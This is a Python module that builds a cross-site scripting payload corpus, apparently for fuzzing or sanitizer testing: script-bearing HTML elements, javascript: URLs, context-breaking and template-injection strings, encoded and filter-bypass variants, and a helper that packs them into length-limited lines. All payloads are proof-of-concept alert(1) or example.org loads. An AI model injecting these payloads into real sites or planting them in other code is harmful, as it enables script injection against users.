"""What somebody may write who would like it to be more than text: a corpus for the browser.

Ways to bring a script in (elements, addresses, broken contexts) and ways to write each.
"""

ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<math href=javascript:alert(1)>click</math>",
    "<form action=javascript:alert(1)><button>click",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<style>@import '//example.org/x.css'</style>",
    "<p style=background:url(//example.org/x)>",
    "<base href=//example.org/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>",
    "<img srcset='//example.org/x 1x'>",
)
# The same element as a browser may still read it.
SPELLINGS = (
    lambda element: element,
    lambda element: element.upper().replace("ALERT", "alert"),
    lambda element: element.replace(" ", "/"),
    lambda element: f"\"'>{element}",
)
CONTEXTS = (
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}",
    "${alert(1)}",
    "`${alert(1)}`",
    "javascript:alert(1)",
    "JaVaScRiPt://example.org/%0aalert(1)",
    "java&#10;script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onmouseover=alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "http://javascript:alert(1)@example.org/",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
)
PAYLOADS = (
    *dict.fromkeys(spell(element) for spell in SPELLINGS for element in ELEMENTS),
    *CONTEXTS,
)


def lines_of(characters: int) -> list[str]:
    """All payloads in as few texts of at most so many characters as their order allows."""
    lines = [""]
    for payload in PAYLOADS:
        joined = f"{lines[-1]} {payload}".strip()
        if len(joined) <= characters:
            lines[-1] = joined
        else:
            lines.append(payload)
    return lines
